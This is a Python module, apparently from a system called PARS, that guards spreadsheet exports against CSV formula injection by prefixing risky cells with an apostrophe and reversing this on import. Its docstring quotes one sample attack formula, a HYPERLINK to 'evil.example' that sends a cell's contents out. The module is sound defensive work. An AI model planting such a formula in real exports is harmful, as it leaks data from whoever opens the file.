"""Text exports that a spreadsheet cannot run: CSV / formula injection (OWASP "CSV Injection").

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is taken by Excel,
LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")`),
and accreditor staff open providers' exports. Every text export (tab-delimited, CSV) writes such a
cell with a leading apostrophe, which those programs show as text; the csv module quotes cells
holding delimiters or quotes, as OWASP also asks.

The import reads it back losslessly: a text that already starts with an apostrophe followed by one
of those characters (or by another apostrophe) is guarded too, so `unguard(guard(s)) == s` for
every `s`, and a file PARS wrote imports as the same values.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
APOSTROPHE = "'"


def _needs_guard(text: str) -> bool:
    return text.startswith(TRIGGERS) or (text.startswith(APOSTROPHE) and text[1:].startswith((*TRIGGERS, APOSTROPHE)))


def guard(text: str) -> str:
    """The text as an export writes it: an apostrophe before a formula-like start."""
    return APOSTROPHE + text if _needs_guard(text) else text


def unguard(text: str) -> str:
    """The text as it was before `guard` (a cell from a file PARS exported, or typed by hand)."""
    if text.startswith(APOSTROPHE) and _needs_guard(text[1:]):
        return text[1:]
    return text
